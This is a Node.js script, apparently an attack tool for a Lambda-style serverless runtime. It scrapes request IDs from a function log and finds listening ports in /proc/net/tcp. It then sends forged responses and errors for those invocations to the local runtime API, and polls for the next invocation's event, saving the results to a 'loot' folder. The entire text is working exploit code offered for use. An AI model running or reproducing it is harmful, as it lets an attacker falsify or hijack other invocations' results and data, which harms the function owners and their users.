// Answers for its function: takes the request id from the function's log, and tries every address on this machine that listens.
const fs = require('node:fs'), http = require('node:http');
const [loot, log] = process.argv.slice(2);
const ids = [...new Set(fs.readFileSync(log, 'utf8').match(/(?<=RequestId: |request )[0-9a-f-]{36}/g))];
const ports = [...new Set(fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1).map((line) => line.trim().split(/\s+/))
  .filter((fields) => fields[3] === '0A').map((fields) => parseInt(fields[1].split(':')[1], 16)))];
fs.writeFileSync(`${loot}/known`, `${ids.length} ${ports.length}`);
const ask = (port, method, path) => new Promise((resolve) => {
  const request = http.request({ host: '127.0.0.1', port, method, path: `/2018-06-01/runtime/${path}`, timeout: 2000, headers: { 'Lambda-Runtime-Function-Error-Type': 'Forged' } }, (answer) => {
    let body = '';
    answer.on('data', (data) => { body += data; }).on('end', () => resolve(`${answer.statusCode} ${body}`));
  });
  request.on('error', () => resolve('none')).on('timeout', () => { request.destroy(); resolve('waits'); });
  request.end(method === 'POST' ? '"forged"' : undefined);
});
(async () => {
  for (const port of ports)
    for (const [method, path] of [...ids.flatMap((id) => [['POST', `invocation/${id}/response`], ['POST', `invocation/${id}/error`]]), ['POST', 'init/error'], ['GET', 'invocation/next']])
      fs.appendFileSync(`${loot}/answers`, `${await ask(port, method, path)}\n`);
})();
